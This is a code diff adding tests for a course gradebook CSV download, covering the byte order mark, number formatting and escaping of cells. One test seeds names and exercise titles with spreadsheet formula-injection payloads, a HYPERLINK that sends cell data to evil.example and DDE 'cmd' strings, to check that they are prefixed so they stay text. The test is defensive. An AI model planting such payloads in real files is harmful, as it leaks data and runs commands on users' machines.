@@ -1,6 +1,11 @@
 import csv
 import io
 
+from django.contrib.auth.models import User
+
+from grader.models import Exercise
+from grader.review import override_score
+from tests.grader.factories import make_exercise
 from tests.staff.base import StaffTestCase
 
 
@@ -13,6 +18,11 @@ class GradebookCsvTestCase(StaffTestCase):
         self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
         self.assertIn('filename="torch-101-gradebook.csv"', response["Content-Disposition"])
         return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+    def test_it_starts_with_a_utf8_byte_order_mark_for_excel(self):
+        self.graded(self.alice, 5)
+        self.login(self.ian)
+        self.assertTrue(self.client.get(self.url).content.startswith(b"\xef\xbb\xbfusername,"))
 
     def test_only_the_courses_staff_can_download_it(self):
         self.assert_staff_only(self.url)
@@ -34,3 +44,34 @@ class GradebookCsvTestCase(StaffTestCase):
         self.graded(self.alice, 6)
         _, row = self.rows()
         self.assertEqual(row[1], 'Zoë "Z" O\'Neil, Jr.')
+
+    def test_text_that_a_spreadsheet_would_run_as_a_formula_is_prefixed_to_stay_text(self):
+        names = {
+            "mallory": ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "=HYPERLINK"),
+            "@SUM": ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
+            "+plus": ("+1+2", ""),
+            "-2": ("-2+3", ""),
+        }
+        for username, (first_name, last_name) in names.items():
+            self.graded(User.objects.create_user(username, first_name=first_name, last_name=last_name), 4)
+        # Names lose leading whitespace (get_full_name strips it); titles keep it.
+        for slug, title in (("formula", "=cmd|' /C calc'!A0"), ("tab", "\t=1+1"), ("cr", "\r=1+1")):
+            Exercise.objects.filter(pk=make_exercise(self.chapter, slug=slug).pk).update(title=title)
+        header, *rows = self.rows()
+        self.assertLessEqual({"'=cmd|' /C calc'!A0", "'\t=1+1", "'\r=1+1"}, set(header))
+        self.assertEqual({row[0]: row[1] for row in rows}, {
+            "mallory": """'=HYPERLINK("http://evil.example/?"&A1,"Click") =HYPERLINK""",
+            "'@SUM": "'@SUM(1+1)*cmd|' /C calc'!A0",
+            "'+plus": "'+1+2",
+            "'-2": "'-2+3",
+        })
+
+    def test_scores_stay_numbers(self):
+        self.alice.first_name = "Ann"
+        self.alice.save()
+        submission = self.graded(self.alice, 2)
+        override_score(submission, 5.5, "partial credit", self.ian)
+        header, row = self.rows()
+        self.assertEqual(row[1], "Ann")
+        self.assertEqual(row[header.index("Outer product")], "5.5")
+        self.assertEqual(row[-2:], ["5.5", "12"])  # three quizzes of 2 points and the exercise's 6
